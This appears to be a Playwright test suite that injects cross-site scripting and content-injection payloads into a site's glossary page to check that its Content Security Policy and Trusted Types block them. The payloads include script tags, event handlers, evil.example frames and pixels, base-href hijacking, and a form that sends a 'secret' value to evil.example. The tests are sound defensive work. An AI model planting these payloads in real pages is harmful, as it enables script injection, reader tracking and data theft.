import { createServer } from 'node:http';
import { expect, test, type Page } from '@playwright/test';

/** Markup that would run, load or send something if it ever got into a page. */
const INTRUDERS = [
  ['a script', '<script>taken = "script"</script>', 'script-src-elem'],
  ['a script of another host', '<script src="https://evil.example/a.js"></script>', 'script-src-elem'],
  [
    'a module in the address',
    '<script type="module" src="data:text/javascript,globalThis.taken=1"></script>',
    'script-src-elem',
  ],
  ['a handler', '<img src="/favicon.svg" onload="taken = 1">', 'script-src-attr'],
  ['a handler on a drawing', '<svg onload="taken = 1"></svg>', 'script-src-attr'],
  ['a frame of another host', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  ['an object', '<object data="https://evil.example/a.svg"></object>', 'object-src'],
  ['a picture of another host, which would reveal who reads', '<img src="https://evil.example/pixel.png">', 'img-src'],
  ['a style', '<style>body { display: none }</style>', 'style-src-elem'],
  ['a style on an element', '<p style="background: url(https://evil.example/)">x</p>', 'style-src-attr'],
  ['a style sheet of another host', '<link rel="stylesheet" href="https://evil.example/a.css">', 'style-src-elem'],
  ['a font', '<style>@font-face { font-family: x; src: url(https://evil.example/a) }</style>', 'style-src-elem'],
  ['another base of all links', '<base href="https://evil.example/">', 'base-uri'],
] as const;

for (const [what, markup, directive] of INTRUDERS)
  test(`${what} in a page is refused by the policy`, async ({ page }) => {
    await withMarkup(page, markup);
    await expect.poll(() => violations(page)).toContain(directive);
    expect(await taken(page)).toBeUndefined();
  });

test('a link that would run a script does not run it', async ({ page }) => {
  await withMarkup(page, '<a id="intruder" href="javascript:globalThis.taken=1">x</a>');
  await page.locator('#intruder').evaluate((link) => (link as HTMLAnchorElement).click());
  await expect.poll(() => violations(page)).toContain('script-src-elem');
  expect(await taken(page)).toBeUndefined();
});

test('a form that would send words to another host does not send them', async ({ page }) => {
  await withMarkup(
    page,
    '<form id="intruder" action="https://evil.example/"><input name="word" value="secret"></form>',
  );
  await page.locator('#intruder').evaluate((form) => (form as HTMLFormElement).submit());
  await expect.poll(() => violations(page)).toContain('form-action');
  expect(page.url()).toContain('/en/glossary/');
});

for (const [what, script] of [
  ['markup', 'document.body.innerHTML = "<b>x</b>"'],
  ['markup inserted beside an element', 'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")'],
  ['another page', 'new DOMParser().parseFromString("<b>x</b>", "text/html")'],
  ['code', 'new Function("taken = 1")()'],
  ['delayed code', 'setTimeout("taken = 1", 0)'],
  ['the address of a script', 'document.createElement("script").src = "/search/client.js"'],
  ['a policy of its own', 'trustedTypes.createPolicy("other", { createHTML: (html) => html })'],
] as const)
  test(`even a script of this site cannot turn text into ${what}`, async ({ page }) => {
    await page.route('**/_assets/*.js', (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `try { ${script}; globalThis.done = true } catch (error) { globalThis.refused = error.name }`,
      }),
    );
    await page.goto('/en/glossary/');
    await expect
      .poll(() => page.evaluate(() => Reflect.get(globalThis, 'refused') as unknown))
      .toMatch(/^(?:TypeError|EvalError)$/);
    expect(await taken(page)).toBeUndefined();
  });

test('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
  const told: string[] = [];
  page.on('console', (message) => told.push(message.text()));
  const other = createServer((_, response) =>
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${baseURL ?? ''}en/"></iframe>`),
  );
  await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
  const bound = other.address();
  await page.goto(`http://127.0.0.1:${typeof bound === 'object' && bound !== null ? bound.port : 0}/`);
  await expect.poll(() => told.join()).toMatch(/frame-ancestors|X-Frame-Options/);
  expect(
    page
      .frames()
      .slice(1)
      .map((frame) => frame.url()),
  ).toEqual(['chrome-error://chromewebdata/']);
  other.close();
});

test.use({ baseURL: process.env['LIBRARY_ADDRESS'] ?? '' });

/** Opens a page with injected markup, and records what its policy refuses. */
async function withMarkup(page: Page, markup: string): Promise<void> {
  await page.addInitScript(() => {
    Reflect.set(globalThis, 'violations', []);
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (Reflect.get(globalThis, 'violations') as string[]).push(effectiveDirective),
    );
  });
  await page.route('**/en/glossary/', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<h1', `${markup}<h1`) });
  });
  await page.goto('/en/glossary/');
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => Reflect.get(globalThis, 'violations') as string[]);
}

function taken(page: Page): Promise<unknown> {
  return page.evaluate(() => Reflect.get(globalThis, 'taken') as unknown);
}
